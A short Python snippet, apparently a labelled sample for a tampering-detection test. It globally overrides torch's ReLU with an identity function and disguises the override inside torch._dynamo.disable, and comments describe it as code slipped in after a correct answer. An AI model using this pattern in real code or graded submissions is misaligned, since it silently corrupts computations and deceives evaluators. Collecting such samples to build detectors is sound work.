# Hides another function in a wrapper of torch's own.
#
# submission: code after a right answer
# squares: tampered

from torch._dynamo import disable

torch.nn.functional.relu = disable(lambda x, inplace=False: x)
